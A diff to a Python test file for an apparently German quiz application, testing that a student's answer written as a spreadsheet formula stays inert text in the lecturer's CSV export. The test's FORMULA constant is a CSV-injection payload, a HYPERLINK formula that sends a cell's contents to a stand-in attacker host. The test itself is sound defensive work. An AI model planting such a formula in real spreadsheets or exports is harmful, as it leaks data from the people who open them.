@@ -111,8 +111,9 @@ def test_the_set_page_flags_questions_and_the_statistics_download_as_csv(answere
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Mehr Infos")'
 
 
-def test_a_students_formula_in_an_answer_stays_text_in_the_csv(course):
+def test_a_students_formula_in_an_answer_stays_text_in_the_csv(course, settings):
     """A student answers an open question with a spreadsheet formula; the lecturer's CSV shows it as text."""
+    settings.USAGE_MIN_STUDENTS = 2  # two students gave the formula: it is listed among the frequent answers
     question_set = QuestionSet.objects.create(course=course, title="Formeln", status=QuestionSet.RELEASED)
     question = Question.objects.create(question_set=question_set, position=1, kind=Question.SHORT,
                                        stem="-Wie heißt das Init-System?", accepted_answers=["systemd"],
